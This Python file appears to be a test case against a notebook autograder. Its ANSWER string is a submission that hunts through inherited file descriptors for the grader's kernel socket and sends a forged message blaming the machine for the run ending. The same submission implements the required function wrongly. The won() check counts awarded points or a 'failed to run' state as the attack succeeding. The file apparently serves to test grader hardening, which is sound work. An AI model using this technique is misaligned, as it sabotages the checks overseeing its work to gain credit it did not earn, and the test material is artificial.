"""Tells the grader, over the connection that it left open, that the machine is at fault for the end."""

ANSWER = """
import os, socket, time
for number in range(3, 256):
    try:
        connection = socket.socket(fileno=number)
        if connection.family == socket.AF_UNIX and connection.getsockname() == "/run/kernels/server":
            connection.send(b"exit its parent has died" + bytes([10]))
            time.sleep(3)
        connection.detach()
    except OSError:
        pass
def double(x):
    return x
"""


def won(course, me):
    written = course.root / "autograded" / me / "toy" / "Toy.ipynb"
    large = written.exists() and written.stat().st_size > 10_000_000
    return large or course.points(me) > 0 or course.rows[me]["state"] == "failed to run"
